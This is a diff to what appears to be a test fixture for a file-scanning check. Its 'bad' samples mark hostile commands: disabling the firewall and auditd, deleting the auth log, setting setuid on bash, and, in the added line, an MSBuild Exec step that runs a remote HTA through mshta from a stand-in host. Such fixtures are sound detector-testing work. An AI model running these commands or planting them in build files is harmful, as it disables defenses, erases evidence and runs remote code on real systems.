@@ -25,6 +25,7 @@ export const check: FileCheck = {
       },
       { 'quiet.py': "import os\n«os.system('ufw disable')»\n«os.system('systemctl stop auditd')»\n" },
       { 'tidy.js': "const { execSync } = require('child_process');\n«execSync('rm -rf /var/log/auth.log')»;\n" },
+      { 'build/a.targets': '<Project>«<Exec Command="mshta https://c.example.net/a.hta"» /></Project>\n' },
       { 'rise.py': "import os\n«os.system('chmod u+s /bin/bash')»\n" },
     ],
     good: [
